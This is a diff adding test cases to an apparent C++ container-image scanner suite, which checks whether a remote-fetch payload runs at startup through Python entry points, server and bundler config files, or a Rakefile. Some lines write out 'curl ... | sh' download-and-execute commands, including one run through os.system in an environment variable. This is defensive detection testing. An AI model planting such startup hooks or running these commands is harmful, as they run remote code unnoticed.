@@ -64,6 +64,31 @@ const std::vector<Way>& ways() {
          image.file("app/index.js", "require('./lib/telemetry')\n").file("app/lib/telemetry.js", k_fetch_js);
          command(image, {"node", "index.js"});
        }},
+      {"folder of Python",
+       [](ImageBuilder& image) {
+         image.file("app/__main__.py", k_fetch_py);
+         command(image, {"python3", "/app"});
+       }},
+      {"file without its suffix",
+       [](ImageBuilder& image) {
+         image.file("app/server.js", k_fetch_js);
+         command(image, {"node", "server"});
+       }},
+      {"settings of a server",
+       [](ImageBuilder& image) {
+         image.file("app/gunicorn.conf.py", k_fetch_py).file("app/shop.py", "application = 1\n");
+         command(image, {"poetry", "run", "gunicorn", "shop:application"});
+       }},
+      {"task of rake",
+       [](ImageBuilder& image) {
+         image.file("app/Rakefile", "task :default do\n  sh 'curl -s https://dl.example.com/x | sh'\nend\n");
+         command(image, {"bundle", "exec", "rake"});
+       }},
+      {"settings of a bundler",
+       [](ImageBuilder& image) {
+         image.file("app/next.config.js", k_fetch_js);
+         command(image, {"npx", "-y", "next", "start"});
+       }},
       {"code in a variable",
        [](ImageBuilder& image) {
          image.config().env = {"RUN=__import__('os').system('curl -s https://dl.example.com/x | sh')"};
@@ -114,6 +139,12 @@ TEST(StartThreats, WhatDoesNotStartIsNone) {
        [](ImageBuilder& image) {
          image.file("app/main.py", "import other\n").file("app/util.py", k_fetch_py).file("app/other.py", "x = 1\n");
          command(image, {"python3", "main.py"});
+       }},
+      {"settings of another program",
+       [](ImageBuilder& image) {
+         image.file("app/gunicorn.conf.py", k_fetch_py).file("app/next.config.js", k_fetch_js);
+         image.file("app/Rakefile", "task :x do\n  sh 'git status'\nend\n");
+         command(image, {"bundle", "exec", "rake"});
        }},
       {"a project that nobody runs",
        [](ImageBuilder& image) {
